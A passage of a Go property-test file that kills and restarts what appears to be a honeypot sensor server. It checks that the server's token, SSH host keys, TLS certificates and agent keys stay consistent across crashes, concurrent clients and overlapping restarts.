		if a.Identity == nil || !a.SawStarted {
			calErr = fmt.Sprintf("calibration child did not come up: %s %s %s\n%s", a.HarnessErr, a.Fatal, a.Exit, a.Output)
			return
		}
		b := runChild(filepath.Join(base, "data"), all, noKill)
		if b.Identity == nil || !b.SawStarted {
			if b.HarnessErr != "" {
				calErr = fmt.Sprintf("second calibration child did not come up: %s %s %s\n%s", b.HarnessErr, b.Fatal, b.Exit, b.Output)
				return
			}
			// A restart over the first child's data directory that does not come up is what
			// the statement is about, not a calibration matter: the histories decide it (they
			// repeat the run, attribute it and shrink); timing estimates come from the first
			// start alone then (seed C18-r5-1 made every restart crash and was reported as
			// harness trouble).
			b = a
		}
		calCold, calWarm = a.StartedAt, b.StartedAt
		if calCold < calWarm {
			calCold = calWarm
		}
		calBoot = a.BootAt
		if b.BootAt < calBoot {
			calBoot = b.BootAt
		}
		// start a little before the earliest observed entry into the sensor's own code
		calBoot = calBoot * 8 / 10
	})
}

// observeTiming keeps the start-up estimates current: machine load changes during a run.
func observeTiming(res childResult, r runT, known seenMap) {
	if !res.SawStarted || !res.SawBoot {
		return
	}
	for _, it := range r.enabled() {
		if _, ok := known[it]; !ok && it != "agent" {
			return // generated keys in this run: not a warm start
		}
	}
	calWarm = (3*calWarm + res.StartedAt) / 4
	b := res.BootAt * 8 / 10
	calBoot = (3*calBoot + b) / 4
	if calCold < calWarm {
		calCold = calWarm
	}
}

// killDelay maps step k of the kill grid to a delay after exec: from just before the
// process enters the sensor's code to 1.2x the expected end of start-up of a run that has
// to generate newRSA RSA keys.
func killDelay(k, newRSA int) time.Duration {
	per := (calCold - calWarm) / 4
	if per < 20*time.Millisecond {
		per = 20 * time.Millisecond
	}
	span := calWarm + time.Duration(newRSA)*per - calBoot
	if span < 10*time.Millisecond {
		span = 10 * time.Millisecond
	}
	return calBoot + time.Duration(float64(span)*1.2*float64(k)/killSteps)
}

// ---------------------------------------------------------------- oracle

type verdict struct {
	Violation string
	Infra     string
	Flaky     []string
	Notes     []string
	Labels    []string
	// per killed run: what the kill left (state-aimed kills)
	KillLeft map[int]killLeft
	Used     histCase // the case with the delays that were used
}

type killLeft struct {
	NewRecords []string
	Siblings   []string // sibling files present after the kill
	Token      bool     // token file present after the kill
	Snapshot   map[string]string
}

func siblingsOnDisk(dataDir string) []string {
	var out []string
	es, _ := os.ReadDir(dataDir)
	for _, e := range es {
		if e.Name() != "token" && e.Name() != "badger.db" {
			out = append(out, e.Name())
		}
	}
	return out
}

func wellFormed(item, v string) error {
	raw, err := hex.DecodeString(v)
	if err != nil || len(raw) == 0 {
		return fmt.Errorf("empty or non-hex value %q", v)
	}
	switch item {
	case "ssh":
		if _, err := ssh.ParsePublicKey(raw); err != nil {
			return fmt.Errorf("host key does not parse: %v", err)
		}
	case "ftp", "smtp", "ldap":
		if _, err := x509.ParseCertificate(raw); err != nil {
			return fmt.Errorf("certificate does not parse: %v", err)
		}
	case "agent":
		if len(raw) != 32 {
			return fmt.Errorf("agent public key has %d bytes, want 32", len(raw))
		}
		zero := true
		for _, b := range raw {
			if b != 0 {
				zero = false
			}
		}
		if zero {
			return fmt.Errorf("agent public key is all zero")
		}
	}
	return nil
}

func short(v string) string {
	if len(v) > 24 {
		return v[:12] + ".." + v[len(v)-8:] + fmt.Sprintf("(%d hex chars)", len(v))
	}
	return v
}

func describe(res childResult) string {
	return fmt.Sprintf("boot=%v started=%v fatal=%q exit=%q harness=%q output tail: %s", res.SawBoot, res.SawStarted, res.Fatal, res.Exit, res.HarnessErr, res.Output)
}

// checkHistory executes the history with separate processes on one fresh data directory
// and applies the oracle of the statement.
func checkHistory(c histCase) (v verdict) {
	v.Used = c
	v.Used.Runs = append([]runT(nil), c.Runs...)
	calibrate()
	if calErr != "" {
		v.Infra = "calibration: " + calErr
		return
	}
	base, err := os.MkdirTemp("", "c18-")
	if err != nil {
		v.Infra = err.Error()
		return
	}
	defer os.RemoveAll(base)
	dataDir := filepath.Join(base, "data")
	v.KillLeft = map[int]killLeft{}
	if c.Snapshot != nil {
		if err := restoreDir(dataDir, c.Snapshot); err != nil {
			v.Infra = err.Error()
			return
		}
	} else if c.DirExists || c.TokenFile == "content" || len(c.Siblings) > 0 {
		if err := os.Mkdir(dataDir, 0755); err != nil {
			v.Infra = err.Error()
			return
		}
	}
	if c.TokenFile == "content" {
		if err := os.WriteFile(filepath.Join(dataDir, "token"), []byte(c.Token), 0600); err != nil {
			v.Infra = err.Error()
			return
		}
	}
	for _, sb := range c.Siblings {
		if sb.Name == "" || sb.Name != filepath.Base(sb.Name) {
			v.Infra = fmt.Sprintf("bad sibling name %q", sb.Name)
			return
		}
		if err := os.WriteFile(filepath.Join(dataDir, sb.Name), []byte(sb.Content), 0600); err != nil {
			v.Infra = err.Error()
			return
		}
	}
	known := seenMap{}
	established := map[string]bool{} // RSA items some earlier completed run has shown
	tainted := c.crashState()
	why := ""
	switch {
	case c.Snapshot != nil:
		why = "data directory left by a killed start (" + c.Origin + ")"
	case len(c.Siblings) > 0:
		why = fmt.Sprintf("token file left %s (%q) with temporary file(s) %s next to it", c.tokenLabel(), c.Token, vlib.JSON(c.Siblings))
	case tainted:
		why = fmt.Sprintf("token file left %s (%q)", c.tokenLabel(), c.Token)
	}
	// the restart schedule: held is the process of run heldIdx, kept alive while the next
	// heldLeft runs are started
	var held *heldT
	heldIdx, heldLeft, heldEnd := 0, 0, ""
	endHeld := func() {
		if held != nil {
			held.end(heldEnd == "kill")
			held = nil
		}
	}
	defer func() {
		if held != nil {
			held.end(true)
		}
	}()
	for i, r := range c.Runs {
		if held != nil && heldLeft == 0 {
			endHeld()
		}
		over := ""
		if held != nil {
			heldLeft--
			over = fmt.Sprintf("the process of run %d (services %s)", heldIdx, c.Runs[heldIdx].set())
		}
		newRSA := 0
		for _, it := range r.enabled() {
			if it != "agent" && !established[it] {
				newRSA++
			}
		}
		if r.killed() {
			var res childResult
			how := ""
			if r.KillSibling {
				res = runChild(dataDir, r, killPlan{delay: -1, sibling: true})
				how = "when a new file appeared next to the token file"
			} else if r.KillRec > 0 {
				res = runChild(dataDir, r, killPlan{delay: -1, rec: r.KillRec})
				how = fmt.Sprintf("when %d more identity records were on disk", r.KillRec)
			} else {
				delay := killDelay(r.Kill, newRSA)
				if r.DelayMs > 0 {
					delay = time.Duration(r.DelayMs * float64(time.Millisecond))
				}
				v.Used.Runs[i].DelayMs = float64(delay) / float64(time.Millisecond)
				res = runChild(dataDir, r, killPlan{delay: delay})
				how = fmt.Sprintf("%.0f ms after exec", v.Used.Runs[i].DelayMs)
			}
			if res.HarnessErr != "" {
				v.Infra = fmt.Sprintf("run %d: %s", i, res.HarnessErr)
				return
			}
			if res.Killed {
				tainted = true
				phase := "before-boot"
				if res.SawStarted {
					phase = "after-started"
				} else if res.SawBoot {
					phase = "during-start-up"
				}
				v.Labels = append(v.Labels, "kill:"+phase, "disk-after-kill:"+diskLabel(dataDir))
				left := fmt.Sprintf("left %s", diskLabel(dataDir))
				if r.KillRec > 0 || r.KillSibling {
					kl := killLeft{NewRecords: res.NewRecords, Siblings: siblingsOnDisk(dataDir), Snapshot: snapshotDir(dataDir)}
					_, terr := os.Stat(filepath.Join(dataDir, "token"))
					kl.Token = terr == nil
					v.KillLeft[i] = kl
					left = fmt.Sprintf("left new records %v, token file present=%v, other files %v", kl.NewRecords, kl.Token, kl.Siblings)
				}
				if why == "" {
					why = fmt.Sprintf("run %d SIGKILLed %s (%s, %s)", i, how, phase, left)
				}
				continue
			}
			// the process finished before the kill: it is a completed run
			v.Labels = append(v.Labels, "kill:too-late")
			if msg, infra := judge(&v, c, i, r, res, dataDir, tainted, why, known, over); msg != "" || infra != "" {
				v.Violation, v.Infra = msg, infra
				return
			}
		} else if r.Overlap > 0 && held == nil && i < len(c.Runs)-1 {
			// this run's process stays alive while the next run(s) are started
			h, res := startHeld(dataDir, r)
			if h != nil {
				if p, _, _ := attemptProblem(r, res); p != "" {
					// it has to be looked at again (judge repeats it): not while it is alive
					h.end(true)
					h = nil
				}
			}
			if h == nil {
				v.Labels = append(v.Labels, "overlap:earlier-run-not-up")
			} else {
				held, heldIdx, heldLeft, heldEnd = h, i, r.Overlap, r.End
				if heldLeft > len(c.Runs)-1-i {
					heldLeft = len(c.Runs) - 1 - i
				}
				v.Labels = append(v.Labels, "schedule:overlapping-start", fmt.Sprintf("overlap:window=%d", heldLeft), "overlap:earlier-run-ended-by-"+map[bool]string{true: "kill", false: "exit"}[heldEnd == "kill"])
			}
			if msg, infra := judge(&v, c, i, r, res, dataDir, tainted, why, known, ""); msg != "" || infra != "" {
				v.Violation, v.Infra = msg, infra
				return
			}
		} else {
			res := runChild(dataDir, r, noKill)
			if msg, infra := judge(&v, c, i, r, res, dataDir, tainted, why, known, over); msg != "" || infra != "" {
				v.Violation, v.Infra = msg, infra
				return
			}
		}
		if over != "" {
			continue // nothing is known about what an overlapping start established
		}
		for _, it := range r.enabled() {
			established[it] = true
		}
	}
	endHeld()
	return
}

type seenT struct {
	val string
	run int
	who string // the service instance that presented it
	cl  string // "" or which of several concurrent clients of that instance saw it
	att int    // 0, or 1 when it was seen in the repetition of a run whose first attempt failed
}

type seenMap = map[string]seenT

// attemptProblem: did this start of run r come up and present every enabled item?
func attemptProblem(r runT, res childResult) (problem string, harness bool, item string) {
	if res.HarnessErr != "" {
		return res.HarnessErr, true, ""
	}
	if res.Identity == nil {
		return "the sensor did not come up: " + describe(res), false, ""
	}
	for _, o := range r.observed() {
		if e, bad := res.Identity.Errs[o.Name]; bad {
			if strings.HasPrefix(e, "infra:") {
				// the environment kept the harness from looking at this item in this
				// run (loopback sockets): the run simply does not observe it
				continue
			}
			return fmt.Sprintf("enabled service %s (%s) presented no identity: %s", o.Name, o.Type, e), false, o.Item
		}
		if _, ok := res.Identity.Items[o.Name]; !ok {
			return fmt.Sprintf("enabled service %s (%s) presented no identity", o.Name, o.Type), false, o.Item
		}
	}
	return "", false, ""
}

// judge applies the oracle to one completed run. A run that did not come up or did not
// present an enabled item (to every one of its clients) is repeated once (that is one more
// restart of the same history); only a reproduced failure counts. What the clients of the
// failed attempt WERE presented counts as presented all the same.
//
// over != "": the run was started while an earlier run's process was still alive on the data
// directory (over says which). The statement does not make such a start succeed - the store
// is locked by the instance that is still there, refusing to start presents no identity at
// all - so nothing is demanded of it and it is not repeated. But whatever it DOES present,
// should it come up, is compared like everything else: never anything but what was first
// generated on this data directory.
func judge(v *verdict, c histCase, i int, r runT, res childResult, dataDir string, tainted bool, why string, known seenMap, over string) (violation, infra string) {
	ctx := fmt.Sprintf("run %d (services %s)", i, r.set())
	if r.Clients >= 2 {
		ctx = fmt.Sprintf("run %d (services %s, %d concurrent clients per service instance released together)", i, r.set(), r.Clients)
	}
	if over != "" {
		ctx += " [started while " + over + " was still alive with the data directory open]"
	}
	if tainted {
		ctx += " after " + why
	}
	attempt := func(res childResult) (problem string, harness bool, item string) { return attemptProblem(r, res) }
	// Every client of every instance is compared with the first value anybody was presented
	// for its item on this data directory ("the same as first generated"): that covers the
	// same instance across runs, instances sharing one item within a run and across runs, and
	// the concurrent clients of one instance. partial: the attempt failed somewhere - only
	// what was presented is looked at.
	sharedNow := map[string]bool{}
	for _, it := range r.shared() {
		sharedNow[it] = true
	}
	att := 0
	presented := func(id *Identity, partial bool) string {
		for _, o := range r.observed() {
			it := o.Item
			who := fmt.Sprintf("%s (%s)", o.Name, o.Type)
			if e := id.Errs[o.Name]; strings.HasPrefix(e, "infra:") {
				if !partial {
					v.Labels = append(v.Labels, "unobservable:"+it)
					v.Notes = append(v.Notes, fmt.Sprintf("%s: %s not observed: %s", ctx, who, trunc(e, 200)))
				}
				continue
			}
			type oneT struct{ val, cl string }
			var vals []oneT
			if obs, multi := id.Clients[o.Name]; multi {
				for k, x := range obs {
					if x.Err == "" {
						vals = append(vals, oneT{x.V, fmt.Sprintf("client %d of %d", k+1, len(obs))})
					}
				}
			} else if val, ok := id.Items[o.Name]; ok {
				vals = append(vals, oneT{val, ""})
			}
			for _, x := range vals {
				val := x.val
				whoc := who
				if x.cl != "" {
					whoc = x.cl + " of " + who
				}
				if err := wellFormed(it, val); err != nil {
					return fmt.Sprintf("%s: %s identity presented by %s is not well-formed: %v", ctx, it, whoc, err)
				}
				k, ok := known[it]
				kwho := k.who
				if k.cl != "" {
					kwho = k.cl + " of " + k.who
				}
				switch {
				case ok && k.val != val && k.run == i && k.att != att:
					return fmt.Sprintf("%s, repeated once because an item was not presented: %s identity presented by %s is %s, but in the first attempt of this run %s was presented %s", ctx, it, whoc, short(val), kwho, short(k.val))
				case ok && k.val != val && k.run == i && k.who == who:
					return fmt.Sprintf("%s: %s identity presented to %s is %s, but %s, released from the same barrier in the same run, was presented %s: they cannot both be the one first generated on this data directory", ctx, it, whoc, short(val), kwho, short(k.val))
				case ok && k.val != val && k.run == i:
					return fmt.Sprintf("%s: %s identity presented by %s is %s, but %s, which shares the persisted %s identity, presented %s in the same run: they cannot both be the one first generated on this data directory", ctx, it, whoc, short(val), kwho, it, short(k.val))
				case ok && k.val != val:
					return fmt.Sprintf("%s: %s identity presented by %s is %s, but run %d on the same data directory presented %s (by %s)", ctx, it, whoc, short(val), k.run, short(k.val), kwho)
				case !ok:
					known[it] = seenT{val, i, who, x.cl, att}
					if sharedNow[it] {
						v.Labels = append(v.Labels, "shared-first-start:"+it)
					}
					if x.cl != "" {
						v.Labels = append(v.Labels, "first-seen-by-concurrent-clients:"+it)
					}
				default:
					if k.run != i {
						v.Labels = append(v.Labels, "compared:"+it)
					}
					if k.who != who {
						v.Labels = append(v.Labels, "compared-between-instances:"+it)
					} else if k.run == i && k.att == att && k.cl != x.cl {
						v.Labels = append(v.Labels, "compared-between-clients:"+it)
					}
				}
			}
		}
		return ""
	}
	if over != "" {
		if res.HarnessErr != "" {
			return "", fmt.Sprintf("%s: %s", ctx, res.HarnessErr)
		}
		if res.Identity == nil {
			v.Labels = append(v.Labels, "overlap:refused-to-start")
			if strings.Contains(res.Output, "Cannot acquire directory lock") {
				v.Labels = append(v.Labels, "overlap:refused-to-start:store-locked")
			}
			return "", ""
		}
		v.Labels = append(v.Labels, "overlap:came-up")
		for _, tok := range res.Identity.Tokens {
			if k, ok := known["token"]; ok && k.val != tok {
				return fmt.Sprintf("%s: events carry token %q, but run %d on the same data directory had %q", ctx, tok, k.run, k.val), ""
			}
		}
		return presented(res.Identity, true), ""
	}
	problem, harness, _ := attempt(res)
	if problem != "" {
		first := problem
		knownBefore := len(known)
		if !harness && res.Identity != nil {
			if msg := presented(res.Identity, true); msg != "" {
				return msg + " (moreover, in this run: " + trunc(first, 300) + ")", ""
			}
		}
		var item string
		att = 1
		res = runChild(dataDir, r, noKill)
		problem, harness, item = attempt(res)
		_, itemKnown := known[item]
		if problem == "" {
			v.Flaky = append(v.Flaky, fmt.Sprintf("%s: %s - not reproduced by an immediate further restart", ctx, trunc(first, 300)))
		} else if harness || (!tainted && knownBefore == 0 && !itemKnown) {
			// the very first start of an undisturbed history and nobody was ever presented
			// this item: nothing to compare with, this is the harness / environment failing
			// to observe, not an identity question
			return "", fmt.Sprintf("%s: %s", ctx, problem)
		} else {
			// an earlier run of this history came up and presented its identity in this very
			// environment (or the history contains a crash state, or other clients of the
			// first attempt of this run were presented this item): the restart lost it
			if k, ok := known[item]; ok && item != "" {
				kwho := k.who
				if k.cl != "" {
					kwho = k.cl + " of " + k.who
				}
				return fmt.Sprintf("%s: %s - reproduced by an immediate further restart (before it: %s), although %s was presented the %s identity %s in run %d on the same data directory: it is never presented again", ctx, problem, trunc(first, 300), kwho, item, short(k.val), k.run), ""
			}
			return fmt.Sprintf("%s: %s", ctx, problem), ""
		}
	}
	id := res.Identity
	observeTiming(res, r, known)
	// token
	if len(id.Tokens) != 1 {
		return fmt.Sprintf("%s: %d captured events carry %d different token values %q, want one sensor token", ctx, id.Events, len(id.Tokens), id.Tokens), ""
	}
	tok := id.Tokens[0]
	if !tokenRe.MatchString(tok) {
		return fmt.Sprintf("%s: events carry token %q which is not a well-formed 20-character xid", ctx, tok), ""
	}
	if k, ok := known["token"]; ok && k.val != tok {
		return fmt.Sprintf("%s: token on events is %q, but run %d on the same data directory had %q", ctx, tok, k.run, k.val), ""
	} else if !ok {
		known["token"] = seenT{tok, i, "events", "", att}
	} else {
		v.Labels = append(v.Labels, "compared:token")
	}
	return presented(id, false), ""
}

func trunc(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}

// ---------------------------------------------------------------- generators

const sampleToken = "9m4e2mr0ui3e8a215n4g"

// moreTypes: the service types that persist an identity item.
var moreTypes = []string{"ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail", "ftp", "smtp", "ldap"}

// genRun draws run i. last: no run follows. inWindow: the run is started while an earlier
// run's process is still alive (it is then neither killed nor kept alive itself). remaining:
// how many runs follow.
func genRun(rt *rapid.T, i int, last bool, inWindow bool, remaining int) runT {
	var r runT
	r.SSH = rapid.SampledFrom([]string{"", "ssh-simulator", "ssh-auth", "ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail"}).Draw(rt, fmt.Sprintf("ssh%d", i))
	r.FTP = rapid.IntRange(0, 2).Draw(rt, fmt.Sprintf("ftp%d", i)) > 0
	r.SMTP = rapid.IntRange(0, 2).Draw(rt, fmt.Sprintf("smtp%d", i)) > 0
	r.LDAP = rapid.IntRange(0, 2).Draw(rt, fmt.Sprintf("ldap%d", i)) > 0
	r.Agent = rapid.IntRange(0, 2).Draw(rt, fmt.Sprintf("agent%d", i)) > 0
	// further instances in the same start; more often in the first start, where every item
	// they share with another instance still has to be generated
	if p := rapid.IntRange(0, 9).Draw(rt, fmt.Sprintf("morep%d", i)); p < 3 || (i == 0 && p < 6) {
		n := rapid.IntRange(1, 3).Draw(rt, fmt.Sprintf("moren%d", i))
		for j := 0; j < n; j++ {
			r.More = append(r.More, rapid.SampledFrom(moreTypes).Draw(rt, fmt.Sprintf("more%d.%d", i, j)))
		}
	}
	// the observation schedule: one client per instance in turn, or 2..6 clients per instance
	// whose first uses of the identity overlap (boundary-biased; more often in the first
	// start, where whatever is created on first use still has to be created)
	if p := rapid.IntRange(0, 9).Draw(rt, fmt.Sprintf("clientsp%d", i)); p < 3 || (i == 0 && p < 7) {
		r.Clients = rapid.SampledFrom([]int{2, 2, 3, 4, 5, 6, 6}).Draw(rt, fmt.Sprintf("clients%d", i))
	}
	r.Kill = -1
	if !last && !inWindow {
		switch p := rapid.IntRange(0, 9).Draw(rt, fmt.Sprintf("killp%d", i)); {
		case p < 3:
			r.Kill = rapid.IntRange(0, killSteps).Draw(rt, fmt.Sprintf("kill%d", i))
		case p < 5:
			r.KillRec = rapid.IntRange(1, 7).Draw(rt, fmt.Sprintf("killrec%d", i))
		case p == 5 && i == 0:
			r.KillSibling = true
		}
	}
	// the restart schedule: sequential, or the next 1..2 runs are started while this run's
	// process is still alive, after which it exits or is killed
	if !r.killed() && !inWindow && remaining >= 1 {
		if rapid.IntRange(0, 9).Draw(rt, fmt.Sprintf("overlapp%d", i)) < 3 {
			r.Overlap = rapid.SampledFrom([]int{1, 1, 2}).Draw(rt, fmt.Sprintf("overlap%d", i))
			if r.Overlap > remaining {
				r.Overlap = remaining
			}
			r.End = rapid.SampledFrom([]string{"exit", "kill"}).Draw(rt, fmt.Sprintf("end%d", i))
		}
	}
	return r
}

func genCase(rt *rapid.T) histCase {
	var c histCase
	switch rapid.IntRange(0, 5).Draw(rt, "tokenstate") {
	case 0, 1:
		c.TokenFile = "absent"
		c.DirExists = rapid.Bool().Draw(rt, "direxists")
	case 2:
		c.TokenFile = "content"
	case 3, 4:
		c.TokenFile = "content"
		full := rapid.StringMatching(`[0-9a-v]{20}`).Draw(rt, "token")
		c.Token = full[:rapid.IntRange(1, 19).Draw(rt, "cut")]
	case 5:
		c.TokenFile = "content"
		c.Token = rapid.StringMatching(`[0-9a-v]{20}`).Draw(rt, "token")
	}
	if c.TokenFile == "content" {
		c.DirExists = true
	}
	n := rapid.IntRange(2, 5).Draw(rt, "runs")
	window := 0
	for i := 0; i < n; i++ {
		x := genRun(rt, i, i == n-1, window > 0, n-1-i)
		if window > 0 {
			window--
		} else {
			window = x.Overlap
		}
		c.Runs = append(c.Runs, x)
	}
	return c
}

func account(r *vlib.Run, label string, c histCase, v verdict) {
	fp := ""
	if c.nontrivial() {
		fp = vlib.JSON(c)
	}
	r.Case(label, fp, func() interface{} { return v.Used })
	r.Label("token-file:"+c.tokenLabel(), 1)
	kills := 0
	changed := false
	for i, x := range c.Runs {
		if x.killed() {
			kills++
		}
		for _, it := range x.shared() {
			r.Label("svcset:shares-"+it, 1)
		}
		if !x.killed() {
			n := x.Clients
			if n < 1 {
				n = 1
			}
			r.Label(fmt.Sprintf("clients-per-instance=%d", n), 1)
		}
		if i > 0 && x.set() != c.Runs[i-1].set() {
			changed = true
		}
	}
	sched := "schedule:sequential"
	for i, x := range c.Runs {
		if x.Overlap > 0 && !x.killed() && i < len(c.Runs)-1 {
			sched = "schedule:with-overlapping-start"
		}
	}
	r.Label(sched, 1)
	if changed {
		r.Label("svcset:changed", 1)
	} else {
		r.Label("svcset:same", 1)
	}
	r.Label(fmt.Sprintf("kills=%d", kills), 1)
	for _, l := range v.Labels {
		r.Label(l, 1)
	}
	for _, f := range v.Flaky {
		r.Flaky(f)
	}
	for _, n := range v.Notes {
		r.Note("%s", n)
	}
}

const ruleText = "every run of a history is a separate OS process running the real server on one data directory; histories of 2..5 runs with drawn service sets {ssh-simulator|ssh-auth|ssh-proxy|ssh-jail, ftp, smtp, ldap, agent listener, plus 0..3 further instances of these types in the same start - instances of the four ssh types share the ssh host key, instances of one TLS service type share its certificate}, observation schedule of a completed run: one client per service instance in turn, or 2..6 clients per instance (and per agent listener) all taken to just before the step that makes the server use the identity (TLS handshake after AUTH TLS / STARTTLS / LDAP StartTLS, SSH key exchange, Noise handshake) and released together from one barrier, restart schedule: sequential (a run has ended before the next is started) or overlapping - the process of a completed, observed run is kept alive (server running, store open) while the next 1..2 runs of the history are started on the same data directory, then it is told to exit or SIGKILLed and the history goes on sequentially (enumerated: kept-alive run is the first start or a restart x exit/kill x 1..2 overlapping starts x service sets; drawn inside the histories), initial token file absent / empty / proper prefix / complete, runs SIGKILLed at a delay on a 41-step grid from process boot to 1.2x the measured start-up time or after a chosen single store write (child frozen and inspected after every value-log change) or the moment a temporary file appears next to the token file; token-file crash states include planted temporary files under the implementation's own (discovered) temporary name; oracle: one well-formed token on all events, every service instance presents the token / host key / certificate / agent key that was presented first for that item on the data directory (same instance across runs, instances sharing an item within a run and across runs, every one of the concurrent clients of an instance; what some clients of a run were presented counts even when other clients of that run were refused), a start made while an earlier instance is still alive may refuse to come up (nothing is presented then, and it is not repeated), but whatever it presents if it does come up is compared like everything else, and so are the sequential runs after it; a start after a crash state comes up well-formed; non-trivial = a history with an overlapping start, or >=1 completed restart after a crash state (empty/prefix token file or a killed start) or a restart with a changed service set or a restart after a start in which >=2 instances shared an item or whose items were used by >=2 concurrent clients; distinct by whole history"

// ---------------------------------------------------------------- tests

// TestHistories: rapid-drawn restart histories.
func TestHistories(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestHistories", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestHistories", v.Used, v.Violation)
		}
		return
	}
	// One shrink attempt costs seconds (2..5 process starts) and rapid checks its shrink
	// deadline only between strategy steps, so the time spent minimising is bounded here:
	// once the budget is used up candidates are no longer executed (they count as passing)
	// and the smallest failing history found so far fails again from memory.
	var (
		firstFail time.Time
		failKey   string
		failMsg   string
		failUsed  histCase
	)
	budget := time.Duration(r.Pick(40, 120)) * time.Second
	r.Rapid(t, "TestHistories", r.Pick(12, 180), func(rt *rapid.T) {
		c := genCase(rt)
		key := vlib.JSON(c)
		if !firstFail.IsZero() && time.Since(firstFail) > budget {
			if key == failKey {
				r.Fail(rt, "TestHistories", failUsed, "%s", failMsg)
			}
			return
		}
		v := checkHistory(c)
		if v.Infra != "" {
			rt.Fatalf("infra: %s", v.Infra)
		}
		account(r, fmt.Sprintf("history/len=%d", len(c.Runs)), c, v)
		if v.Violation != "" {
			if firstFail.IsZero() {
				firstFail = time.Now()
			}
			failKey, failMsg, failUsed = key, v.Violation, v.Used
			r.Fail(rt, "TestHistories", v.Used, "%s", v.Violation)
		}
	})
}

var cycle = []runT{
	{SSH: "ssh-simulator"},
	{FTP: true},
	{SMTP: true},
	{LDAP: true},
	{Agent: true},
	{SSH: "ssh-auth", Agent: true},
	{FTP: true, LDAP: true},
}

// TestTokenFileStates: every on-disk state of the token file a kill during its first write
// can leave - absent, empty, each proper prefix of a valid token - plus the complete token,
// each followed by two starts (three in the thorough tier).
func TestTokenFileStates(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestTokenFileStates", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestTokenFileStates", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	shard, shards := r.Shard()
	failed := 0
	var cases []histCase
	cases = append(cases, histCase{TokenFile: "absent"}, histCase{TokenFile: "absent", DirExists: true})
	for n := 0; n <= 20; n++ {
		cases = append(cases, histCase{TokenFile: "content", Token: sampleToken[:n], DirExists: true})
	}
	for i, c := range cases {
		if i%shards != shard {
			continue
		}
		a, b := cycle[i%len(cycle)], cycle[(i+1)%len(cycle)]
		a.Kill, b.Kill = -1, -1
		a1 := a
		a1.Clients = 1 + i%6 // the first start after the crash state is observed by 1..6 clients at once
		c.Runs = []runT{a1, a}
		if r.Thorough() {
			c.Runs = []runT{a1, b, a}
		}
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		nt := int64(0)
		if c.nontrivial() {
			nt = 1
		}
		r.Bulk("token-file-state/"+c.tokenLabel(), 1, nt)
		r.Sample("token-file-state/"+c.tokenLabel(), v.Used)
		for _, f := range v.Flaky {
			r.Flaky(f)
		}
		for _, n := range v.Notes {
			r.Note("%s", n)
		}
		for _, l := range v.Labels {
			r.Label(l, 1)
		}
		if v.Violation != "" {
			r.Violation(t, "TestTokenFileStates", v.Used, v.Violation)
			if failed++; failed >= maxReports {
				t.Logf("stopping after %d violations", failed)
				return
			}
		}
	}
	r.Exhaustive("token file states before the first start: absent (with and without data directory), empty, every proper prefix (1..19 characters) of a valid token, the complete token")
}

// TestKillSweep: a first start with all services is killed at every step of the delay grid,
// then restarted twice.
func TestKillSweep(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestKillSweep", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestKillSweep", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	shard, shards := r.Shard()
	failed := 0
	stride := r.Pick(4, 1)
	idx := 0
	for k := 0; k <= killSteps; k += stride {
		idx++
		if idx%shards != shard {
			continue
		}
		sshType := "ssh-simulator"
		if idx%2 == 1 {
			sshType = "ssh-auth"
		}
		all := runT{SSH: sshType, FTP: true, SMTP: true, LDAP: true, Agent: true, Kill: -1}
		killed := all
		killed.Kill = k
		after := all
		after.Clients = 1 + idx%6 // the first start after the kill is observed by 1..6 clients at once
		c := histCase{TokenFile: "absent", Runs: []runT{killed, after, all}}
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		account(r, "kill-sweep", c, v)
		if v.Violation != "" {
			r.Violation(t, "TestKillSweep", v.Used, v.Violation)
			if failed++; failed >= maxReports {
				t.Logf("stopping after %d violations", failed)
				return
			}
		}
	}
}

type subsetT struct {
	name  string
	run   runT
	total int // identity records a first start with this subset writes
}

func mkSubset(name string, r runT) subsetT {
	r.Kill = -1
	t := 0
	if r.SSH != "" {
		t++
	}
	for _, b := range []bool{r.FTP, r.SMTP, r.LDAP} {
		if b {
			t += 2
		}
	}
	if r.Agent {
		t++
	}
	return subsetT{name, r, t}
}

// TestKillStates: a first start is killed after each single write of an identity record to
// the store: for every service subset below and every n from 1 to the number of records a
// first start of that subset writes, the child is frozen whenever the value log changed,
// its on-disk records are counted while frozen, and it is killed when n are there (e.g. a
// key without its certificate). What the kill really left is read back from disk; a target
// n that was overshot is retried on a fresh directory. Then two further starts must come up
// with one consistent identity. The order in which services are constructed is the server's
// (map order), so repetitions see different record sets for the same n.
func TestKillStates(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestKillStates", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestKillStates", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	subsets := []subsetT{
		mkSubset("all", runT{SSH: "ssh-simulator", FTP: true, SMTP: true, LDAP: true, Agent: true}),
		mkSubset("ldap", runT{LDAP: true}),
		mkSubset("ftp", runT{FTP: true}),
		mkSubset("smtp", runT{SMTP: true}),
	}
	reps := 1
	if r.Thorough() {
		subsets = append(subsets,
			mkSubset("ssh-auth+ldap+agent", runT{SSH: "ssh-auth", LDAP: true, Agent: true}),
			mkSubset("ftp+smtp", runT{FTP: true, SMTP: true}),
			mkSubset("ftp+ldap", runT{FTP: true, LDAP: true}),
